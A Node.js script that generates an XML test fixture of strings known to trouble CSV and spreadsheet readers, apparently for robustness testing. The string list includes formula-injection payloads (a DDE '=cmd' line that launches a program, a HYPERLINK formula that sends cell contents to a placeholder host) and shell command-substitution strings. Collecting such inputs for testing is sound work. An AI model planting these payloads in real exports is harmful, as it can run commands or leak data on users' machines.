// SPDX-License-Identifier: Apache-2.0
// A record of texts that readers of CSV and spreadsheets stumble over; run as a
// program it writes the record "hostile" below the folder given.  Each text is the note and the printed form of
// one figure, whose number is the text's place in the list.
import { mkdirSync, readFileSync, readdirSync, utimesSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const plain = [
  'plain', 'a,b', 'say "no"', '"', '""', '","', 'a;b', 'a\tb', "it's", "'quoted'", 'back\\slash', '\\"', '\\n', 'a|b',
  '=1+1', '=HYPERLINK("http://x.example/?"&A1,"click")', '=cmd|\' /C calc\'!A0', '+1+1', '+3', '-5', '-5.25', '-1+1',
  '@SUM(A1:A9)', '-', '+', '=', '@', "'=1+1", '"=1+1"', '==', '=\u00a01', '%0A=1+1', ';=1+1', ',=1+1',
  '007', '1e3', '1,234', '12%', '0x1F', '1/2', '2012-01-01', '3-4', 'TRUE', 'NULL', 'NA', 'N/A', 'NaN', 'null', 'inf', 'undefined',
  'مرحبا بالعالم', 'שלום', 'مرحبا, "hello"', 'naïve café', '日本語、中文', 'Ελληνικά', '🔒', '👩‍💻 and 🇺🇦', 'e\u0301 and é', '\ufeffmark',
  '# comment', '<b>bold</b> & so', '&amp;', '${x}', '{{x}}', '$(id)', '`id`', '/* */', '--',
];

// The cells of csv-spectrum's pairs: keys and values as their JSON has them.
function spectrum() {
  const folder = join(dirname(createRequire(import.meta.url).resolve('csv-spectrum/package.json')), 'json');
  const cells = new Set();
  for (const name of readdirSync(folder).sort()) {
    for (const row of [JSON.parse(readFileSync(join(folder, name), 'utf8'))].flat())
      for (const [key, value] of Object.entries(row)) { cells.add(key); cells.add(String(value)); }
  }
  return [...cells].filter((cell) => cell.trim() !== '');
}

export const texts = [...new Set([...plain, ...spectrum()])];

const xml = (text) => text.replace(/[&<>"]/g, (c) => `&#${c.charCodeAt(0)};`);
const attribute = (text) => xml(text).replace(/[\t\r\n]/g, (c) => `&#${c.charCodeAt(0)};`);

export function record() {
  const tables = texts.map((text, i) => `<requests id="t-${i}" service="mail" period="${1900 + i}" absent="not-reported">
<note id="n-${i}"><text>${xml(text)}</text></note>
<from country="US"><received requests="${i}" note="n-${i}" printed="${attribute(text)}"/></from></requests>\n`);
  return `<?xml version="1.0" encoding="UTF-8"?>
<transparency xmlns="urn:transparency-report:1" published="2013-03-21" publisher="example" xml:lang="en">
<publisher id="example" name="Example"/>
<service id="mail" name="Example Mail"/>
${tables.join('')}</transparency>\n`;
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const folder = join(process.argv[2], 'hostile');
  mkdirSync(folder, { recursive: true });
  writeFileSync(join(folder, 'record.xml'), record());
  utimesSync(join(folder, 'record.xml'), 1e9, 1e9);    // an old file is taken at once
}
